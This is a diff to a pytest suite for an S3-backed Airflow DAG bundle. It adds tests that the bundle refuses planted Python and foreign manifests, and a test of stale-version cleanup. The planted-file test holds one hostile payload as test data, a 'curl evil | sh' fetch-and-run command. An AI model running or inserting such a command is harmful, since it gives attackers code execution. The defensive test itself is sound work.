@@ -6,6 +6,7 @@ Packages are published with the real publisher; the bundle reads S3 through the 
 
 from __future__ import annotations
 
+import hashlib
 import json
 import shutil
 import subprocess
@@ -17,9 +18,12 @@ import pytest
 
 pytest.importorskip("airflow", reason="needs the [airflow] extra")
 
+from dagfactory_s3 import stub
 from dagfactory_s3.bundle import Mapping, S3ReleaseDagBundle
 from dagfactory_s3.errors import SyncError
+from dagfactory_s3.naming import object_name
 from dagfactory_s3.publisher import cli
+from dagfactory_s3.release import CONTENT_OBJECTS, FileEntry, Release
 
 from airflow_env import AIRFLOW, airflow_env, db_rows, migrate
 from conftest import EXAMPLES
@@ -158,25 +162,111 @@ def test_mass_delete_guard_keeps_a_vanished_package(s3, bucket, tmp_path, monkey
     assert (processor.path / SEEDER / "dags" / "reporting_seeder_refresh_all.py").is_file()
 
 
+def hostile_release(client, bucket: str, package: str, files: dict[str, bytes]) -> str:
+    """Commit a hand-made release record (not the publisher's: it would refuse these files)."""
+    release_id = "20991231T000000.000Z-abcdef"
+    for data in files.values():
+        key = f"{ENV}/{package}/{object_name(hashlib.sha256(data).hexdigest())}"
+        client.put_object(Bucket=bucket, Key=key, Body=data)
+    record = Release(
+        package,
+        ENV,
+        release_id,
+        "2099-12-31T00:00:00Z",
+        "hand-made",
+        files={k: FileEntry(hashlib.sha256(v).hexdigest(), len(v)) for k, v in files.items()},
+        content=CONTENT_OBJECTS,
+    ).to_json()
+    client.put_object(Bucket=bucket, Key=f"{ENV}/{package}/_releases/{release_id}.json", Body=record)
+    client.put_object(Bucket=bucket, Key=f"{ENV}/{package}/metadata.json", Body=record)
+    return release_id
+
+
 def test_only_canonical_stubs_and_owned_manifests_are_served(s3, bucket, tmp_path, monkeypatch):
-    """Stubs are written by the bundle; a manifest claiming another package is not served."""
-    src = package_dir(tmp_path, SEEDER)
-    doc = json.loads((src / "reporting_seeder_refresh_agency.json").read_text())
-    publish(bucket, src, SEEDER)
+    """A record naming planted Python and a manifest claiming another package: the bundle serves the
+    owned manifests with stubs it writes itself, and neither the planted bytes nor the foreign claim."""
+    good = (EXAMPLES / SEEDER / "airflow_dags" / "reporting_seeder_refresh_all.json").read_bytes()
+    foreign = json.loads(good)
+    foreign.update(package="pipeline_processing", dag_id="reporting_seeder_foreign")
+    planted = b"import os; os.system('curl evil | sh')\n"
+    release_id = hostile_release(
+        boto3.client("s3", endpoint_url=s3.upstream),
+        bucket,
+        SEEDER,
+        {
+            "dags/reporting_seeder_refresh_all.json": good,
+            "dags/reporting_seeder_refresh_all.py": planted,
+            "dags/reporting_seeder_foreign.json": json.dumps(foreign).encode(),
+        },
+    )
     processor = bundle(tmp_path / "processor", monkeypatch, bucket)
     processor.initialize()
-    from dagfactory_s3 import stub
-
-    for path in (processor.path / SEEDER / "dags").glob("*.py"):
-        assert path.read_bytes() == stub.stub_for(path.name)
-    assert doc["package"] == SEEDER  # the refusal below is about ownership, not a broken example
-    files = processor._served(
-        processor._record(SEEDER, processor.get_current_version().data["releases"][SEEDER])
-    )
-    assert sorted(files[0]) == [
-        "dags/reporting_seeder_refresh_agency.json",
-        "dags/reporting_seeder_refresh_all.json",
+    assert processor.get_current_version().data["releases"] == {SEEDER: release_id}
+    served = tree(processor.path)
+    assert sorted(served) == [
+        f"{SEEDER}/.airflowignore",
+        f"{SEEDER}/dags/reporting_seeder_refresh_all.json",
+        f"{SEEDER}/dags/reporting_seeder_refresh_all.py",
     ]
+    assert served[f"{SEEDER}/dags/reporting_seeder_refresh_all.py"] == stub.stub_for(
+        "reporting_seeder_refresh_all.py"
+    )
+
+
+# Airflow's stale-version cleanup, as the dag-processor and workers run it (a fresh process: Airflow
+# fixes its tracking folder when first imported).
+CLEANUP = """
+from airflow.dag_processing.bundles.base import BundleUsageTrackingManager, BundleVersionLock
+import sys
+for version in sys.argv[1:]:
+    with BundleVersionLock(bundle_name="etl", bundle_version=version):
+        pass  # what a task does while it runs: mark the version used
+BundleUsageTrackingManager().remove_stale_bundle_versions()
+"""
+
+
+def test_stale_versions_are_cleaned(s3, bucket, tmp_path, monkeypatch):
+    """Airflow removes a versioned bundle's unused worker versions; the bundle keeps a few dag-processor
+    trees and drops cached content no tree links any more."""
+    processor = bundle(tmp_path / "node", monkeypatch, bucket)
+    processor.cache_grace = 0
+    versions = []
+    for tag in ("2.5.0", "2.5.1", "2.5.2", "2.5.3", "2.5.4"):
+        publish(bucket, package_dir(tmp_path, SEEDER, tag), SEEDER)
+        processor.refresh()
+        versions.append(processor.get_current_version().version)
+    trees = sorted(p.name for p in (tmp_path / "node" / "etl" / "tracking").iterdir())
+    assert trees == versions[-3:] and processor.path.resolve().name == versions[-1]
+    cached = [p for p in (tmp_path / "node" / "etl" / "objects").glob("*/*")]
+    assert all(p.stat().st_nlink > 1 for p in cached), "content of dropped trees is gone from the cache"
+    # refresh_all (its image changes) in each of the 3 kept trees, refresh_agency (unchanged) shared by all
+    assert len(cached) == 3 + 1
+
+    for version in versions[:2]:
+        bundle(tmp_path / "node", monkeypatch, bucket, version=version).initialize()
+    assert sorted(p.name for p in (tmp_path / "node" / "etl" / "versions").iterdir()) == versions[:2]
+    env = {
+        **airflow_env(tmp_path / "home", tmp_path / "unused"),
+        **{k: v for k, v in aws_env(s3.url).items() if k.startswith("AWS_")},
+        "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_STORAGE_PATH": str(tmp_path / "node"),
+        "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_CONFIG_LIST": json.dumps(
+            [
+                {
+                    "name": "etl",
+                    "classpath": "dagfactory_s3.bundle.S3ReleaseDagBundle",
+                    "kwargs": {"bucket": bucket, "environment": ENV},
+                }
+            ]
+        ),
+        "AIRFLOW__DAG_PROCESSOR__STALE_BUNDLE_CLEANUP_MIN_VERSIONS": "0",
+        "AIRFLOW__DAG_PROCESSOR__STALE_BUNDLE_CLEANUP_AGE_THRESHOLD": "0",
+    }
+    (tmp_path / "home").mkdir()
+    result = subprocess.run(
+        [sys.executable, "-c", CLEANUP, *versions[:2]], env=env, capture_output=True, text=True, timeout=120
+    )
+    assert result.returncode == 0, result.stderr[-3000:]
+    assert list((tmp_path / "node" / "etl" / "versions").iterdir()) == []
 
 
 def test_an_unknown_version_is_a_clear_error(s3, bucket, tmp_path, monkeypatch):
